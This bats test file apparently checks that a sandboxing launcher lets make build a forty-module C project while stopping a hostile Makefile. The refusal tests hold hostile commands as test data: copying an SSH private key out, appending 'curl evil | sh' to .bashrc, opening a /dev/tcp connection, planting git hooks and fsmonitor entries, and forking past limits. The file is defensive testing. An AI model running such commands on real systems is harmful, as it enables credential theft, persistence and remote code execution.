# make: a project of several directories in parallel; a hostile Makefile reads, writes and calls in vain.

# shellcheck disable=SC2016 # make's and the inside's
bats_require_minimum_version 1.5.0
load ../lib/common
load ../lib/profiles

setup_file() {
	packages make gcc libc6-dev python3 openssl
}

setup() {
	residue_before
}

teardown() {
	residue_after
}

# A library of forty modules, generated sources, a program, tests, an installation: with a jobserver over two levels.
project() {
	mkdir -p lib src
	cat >Makefile <<'END'
DESTDIR = $(CURDIR)/out
export CFLAGS = -O1 -Wall
all: program
lib/libmodules.a: FORCE
	$(MAKE) -C lib
program: src/main.c lib/libmodules.a
	$(CC) $(CFLAGS) -o $@ $^
check: program
	./program | cmp - expected
install: all
	install -D -m 755 program $(DESTDIR)/usr/bin/program
FORCE:
.PHONY: all check install FORCE
END
	cat >lib/Makefile <<'END'
modules := $(shell seq 1 40)
objects := $(modules:%=m%.o)
libmodules.a: $(objects)
	$(AR) rcs $@ $^
m%.c: template
	sed 's/@/$*/g' template >$@
END
	echo 'int m@(void) { return @; }' >lib/template
	{
		echo '#include <stdio.h>'
		printf 'int m%d(void);\n' {1..40}
		echo 'int main(void) { int sum = 0;'
		printf 'sum += m%d();\n' {1..40}
		echo 'return printf("%d%c", sum, 10) != 4; }'
	} >src/main.c
	echo 820 >expected
	chown -R --reference=. .
}

builds() {
	project
	run launch -- make -j4
	assert_status 0
	refute_output 'jobserver unavailable'
	run launch -- make -j4 check install
	assert_status 0
	[ "$(out/usr/bin/program)" = 820 ]
	[ "$(stat -c %u out/usr/bin/program)" = "$(stat -c %u .)" ]
	# Only what changed: times and owners are those that make sees.
	run launch -- make -C lib
	assert_output 'up to date'
	rm lib/m7.o
	run launch -- make -C lib
	assert_status 0
	assert_output m7.o
	refute_output m8.c
	# An error stops it, and is make's.
	echo '#error broken' >>src/main.c
	run launch -- make
	assert_status 2
	assert_output '#error broken'
}

# What configure scripts and tests ask the host for.
asks() {
	printf '%s\n' 'int main(void) { return 0; }' >clean.c
	printf '%s\n' 'check: clean' '	./clean' '	openssl req -x509 -newkey rsa:2048 -nodes -subj /CN=test -keyout key -out cert 2>/dev/null' \
		'	. /etc/os-release && echo "on $$ID"' 'clean: clean.c' '	$(CC) -fsanitize=address -o $@ $<' >Makefile
	run launch -- make -s check
	assert_status 0
	assert_line "on $(. /etc/os-release && echo "$ID")"
	[ -s cert ]
}

@test "make runs what was built with sanitizers, makes a certificate, knows the distribution" {
	each_launcher asks
}

@test "make builds, tests and installs a project of several directories with four jobs" {
	each_launcher builds
}

# A Makefile whose default target runs the lines of standard input.
hostile() {
	{
		echo 'all:'
		sed 's/^/\t/'
	} >Makefile
}

refuses_makefile() {
	local theirs=$TMP/theirs-$LAUNCHER

	mkdir -p "$theirs/.ssh"
	echo key >"$theirs/.ssh/id_ed25519"
	hostile <<<"cp $theirs/.ssh/id_ed25519 stolen"
	refuses make
	assert_output 'No such file or directory'
	# Already while it is parsed.
	printf 'include %s\nall:\n' "$theirs/.ssh/config" >Makefile
	echo 'HOST = example' >"$theirs/.ssh/config"
	refuses make
	hostile <<<"echo 'curl evil | sh' >>$theirs/.bashrc"
	refuses make
	hostile <<<"rm $theirs/.bashrc && touch $theirs/.bashrc"
	refuses make
	assert_output 'No such file or directory'
	run launch --rw "$theirs" -- make
	assert_status 0
	_listen
	hostile <<<"bash -c 'exec 4<>/dev/tcp/127.0.0.1/$PORT'"
	refuses make
	assert_output 'Connection refused'
	kill "$LISTENER"
	rm "$TMP/port"
}

# A build that adds a hook to the repository that it is built in: git would run it outside, later.
refuses_hook() {
	mkdir -p .git/hooks
	touch .git/config
	chown -R --reference=. .git
	hostile <<<"printf '#!/bin/sh\nid\n' >.git/hooks/post-checkout"
	refuses make
	assert_output 'Read-only file system'
	hostile <<<"echo '[core] fsmonitor = ./evil' >>.git/config"
	refuses make
	assert_output 'Read-only file system'
}

# More processes than are granted: ten thousand is what the machine bears.
refuses_forks() {
	[ "$LAUNCHER" = root ] || return 0
	# shellcheck disable=SC2034 # for refuses
	local LAUNCH_OPTIONS=(-s cgroup.pids.max=100)
	# shellcheck disable=SC2016 # the shell's that make starts
	hostile <<<'for i in $$(seq 150); do sleep 3 & done; wait'
	refuses make
	assert_output 'Cannot fork'
}

refusals() {
	refuses_keys
	refuses_makefile
	refuses_hook
	refuses_forks
	refuses_processes
	refuses_namespaces
	refuses_setuid
	refuses_memory 512M -s cgroup.memory.max=256M
}

@test "make lets a Makefile read no key, write no start file or hook, call nobody, take no more than its share" {
	each_launcher refusals
}
